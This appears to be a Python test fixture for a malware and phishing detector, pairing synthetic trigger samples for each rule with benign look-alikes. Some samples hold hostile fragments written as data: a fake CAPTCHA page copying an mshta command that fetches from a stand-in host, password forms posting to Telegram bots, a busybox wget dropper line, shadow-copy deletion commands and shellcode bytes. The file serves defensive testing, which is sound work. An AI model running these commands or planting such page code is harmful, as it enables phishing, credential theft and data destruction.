"""One made-up file for each rule about pages, pictures and programs."""

from __future__ import annotations

from tests import files

PASSWORD = b'<html><body><form action="/in"><input type="password" name="p"></form>'
SCRAMBLED = b"<script>while(!![]){var _0x1a2b=" + b"parseInt(_0x1a2b('a'))+_0x3c4d[0]+" * 25 + b"0}</script>"


def program(*texts: str | bytes) -> bytes:
    """The beginning of a Windows program, with these texts in it."""
    return b"MZ" + bytes(62) + b"\0".join(text if isinstance(text, bytes) else text.encode() for text in texts) + b"\0"


SAMPLES: dict[str, bytes] = {
    "pages.page_sends_password_to_chat": PASSWORD
    + b"<script>fetch('https://api.telegram.org/bot1:a/sendMessage')</script>",
    "pages.page_sends_password_to_form_service": PASSWORD.replace(b"/in", b"https://formspree.io/f/abc"),
    "pages.page_knows_its_victim": PASSWORD + b"<script>var m=atob(window.location.hash.substr(1))</script>",
    "pages.page_dresses_as_microsoft": PASSWORD + b'<img src="https://aadcdn.msftauth.net/shared/logo.svg">',
    "pages.page_shuts_out_inspection": PASSWORD
    + b"<body oncontextmenu='return false'><script>if(e.keyCode==123)x()</script>",
    "pages.page_speaks_through_socket": PASSWORD + b"<script>s=new WebSocket('wss://a.example')</script>",
    "pages.page_copies_command": (
        b"<html>Verify you are human: press Win + R, then Ctrl+V<script>navigator.clipboard.writeText("
        b"'mshta https://files.example/a')</script>"
    ),
    "pages.page_starts_diagnostic_tool": b'<html><script>location="ms-msdt:/id PCWDiagnostic /skip"</script>',
    "pages.page_opens_foreign_folder": (
        b'<html><a href="search-ms:query=a&crumb=location:\\\\files.example\\a">Open</a>'
    ),
    "pages.page_reaches_for_file_server": b'<html><img src="file://203.0.113.9/a/b.png">',
    "pages.page_holds_page": b'<html><iframe src="data:text/html;base64,PGh0bWw+"></iframe>',
    "pages.page_writes_itself_from_code": (
        b"<html><script>document.write(decodeURIComponent(escape(atob('YQ=='))))</script>"
    ),
    "pages.page_turns_address_round": (
        b"<html><script>location.href='moc.elpmaxe//:sptth'.split('').reverse().join('')</script>"
    ),
    "pages.page_lets_no_robot_in": (
        b"<html><script>if(navigator.webdriver||window.callPhantom){location='about:blank'}</script>"
    ),
    "pages.page_of_renamed_script": b"<html>" + SCRAMBLED,
    "pages.picture_asks_for_password": b'<svg><foreignObject><input type="password"/></foreignObject></svg>',
    "pages.picture_leads_elsewhere_when_shown": b"<svg onload=\"window.location='https://a.example'\"></svg>",
    "loaders.program_steals_browser_passwords": program(
        "\\Login Data", "encrypted_key", "\\Local State", "logins.json"
    ),
    "loaders.program_steals_wallets": program("\\Exodus\\exodus.wallet", "\\Electrum\\wallets", "wallet.dat"),
    "loaders.program_reports_to_chat": program("https://api.telegram.org/bot1:a/sendDocument".encode("utf-16-le")),
    "loaders.program_writes_into_others": program("VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"),
    "loaders.program_takes_place_of_another": program(
        "NtUnmapViewOfSection", "SetThreadContext", "ResumeThread", "WriteProcessMemory"
    ),
    "loaders.program_logs_keys_and_mails_them": program(
        "GetAsyncKeyState", "GetForegroundWindow", "SmtpClient", "NetworkCredential"
    ),
    "loaders.program_unpacks_program_in_memory": program(
        "mscoree.dll", "FromBase64String", "Load", "get_EntryPoint", "Assembly", "a"
    ),
    "loaders.program_loads_code_from_paste": program("https://pastebin.com/raw/abc"),
    "loaders.program_looks_for_analysts": program("SbieDll.dll", "vmtoolsd", "wireshark", "procmon"),
    "loaders.program_loads_itself": program("a", "ReflectiveLoader", "b"),
    "loaders.program_is_packed_script": program("AU3!EA06"),
    "loaders.program_is_packed": program(b"UPX0\0\0\0\0", b"UPX1\0\0\0\0"),
    "loaders.python_program_steals": program(
        "_MEIPASS", b"MEI\x0c\x0b\x0a\x0b\x0e", "win32crypt", "sqlite3.dll", "Crypto/Cipher"
    ),
    "loaders.files_are_held_to_ransom": b"vssadmin delete shadows /all\r\nwbadmin delete catalog -quiet\r\n",
    "loaders.machine_code_finds_functions": bytes.fromhex("fce8820000006089e531c0648b5030"),
    "loaders.machine_code_written_as_text": b"[Byte[]] $a = 0xfc,0xe8,0x82,0x00,0x00,0x00",
    "loaders.linux_program_loads_for_many_machines": b"\x7fELF/bin/busybox\0wget http://a.example/x\0chmod 777 x\0",
    "loaders.mac_program_asks_for_password": b"\xcf\xfa\xed\xfeosascript -e 'with hidden answer' login.keychain-db",
}

GOOD: dict[str, bytes] = {
    "a page": files.page(),
    "a page with a form": files.page(form='<form action="https://www.example.com/s"><input name="q"></form>'),
    "a page with a log-in": PASSWORD,
    "the log-in of Microsoft, saved": (
        PASSWORD.replace(b'"/in"', b'"https://login.microsoftonline.com/common/login"')
        + b'<img src="https://aadcdn.msauth.net/a.svg">'
    ),
    "a form of a newsletter": b'<html><form action="https://formspree.io/f/abc"><input type="email"></form>',
    "a page with a bot's address": b'<html><a href="https://api.telegram.org/bot">how bots work</a>',
    "a page with a copy button": b"<html><pre>npm install</pre><script>navigator.clipboard.writeText(code)</script>",
    "a page about commands": b"<html><p>powershell -File a.ps1 starts it. Press Win + R, then Ctrl+V.</p>",
    "a report that saves its table": (
        b"<html><script>var b=new Blob([csv]);a.href=URL.createObjectURL(b);a.download='t.csv';a.click()</script>"
    ),
    "a page that goes to a chapter": b"<html><script>show(window.location.hash.substr(1))</script>",
    "a page with a chat": b"<html><script>s=new WebSocket('wss://www.example.com')</script>",
    "a page with shortcuts": b"<html><script>if(e.keyCode==13){send()}</script>",
    "a page with a picture in it": (
        b'<html><img src="data:image/png;base64,iVBORw0KGgo="><iframe src="https://www.example.com">'
    ),
    "a page with a picture of an internal server": b'<html><img src="file://192.168.0.9/share/logo.png">',
    "a saved page with scrambled advertising": b"<html>" + b"<p>News</p>" * 30 + SCRAMBLED,
    "a page that turns words round": b"<html><script>p=w.split('').reverse().join('')==w</script>",
    "a page that decodes": b"<html><script>var n=decodeURIComponent(name);document.title=n</script>",
    "a picture": b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
    "a picture with text that wraps": b"<svg><foreignObject><p>Long words</p></foreignObject></svg>",
    "a picture that turns": b'<svg><animate attributeName="x" begin="0s"/><g onclick="turn()"/></svg>',
    "a drawing in a page": b"<!doctype html><html><body onload='init(location)'><svg><circle r='4'/></svg>",
    "a program": files.windows_program(),
    "a program that starts others": program("CreateProcessW", "WriteProcessMemory", "VirtualAllocEx"),
    "a debugger": program("SetThreadContext", "ResumeThread", "WriteProcessMemory"),
    "a browser": program("\\Login Data", "encrypted_key", "\\Local State"),
    "a program that sends mail": program("SmtpClient", "NetworkCredential"),
    "a .NET program": program("mscoree.dll", "Load", "Assembly", "a"),
    "a program of Python": program("_MEIPASS", b"MEI\x0c\x0b\x0a\x0b\x0e"),
    "a note about copies": b"Never run vssadmin delete shadows on the server.\n",
    "machine code elsewhere": bytes(64) + bytes.fromhex("fce8820000006089e531c0648b5030"),
    "bytes as text": b"data = {0xfc, 0x10, 0x20, 0x30}",
    "a program of Linux": files.unix_program() + b"/bin/busybox\0",
}
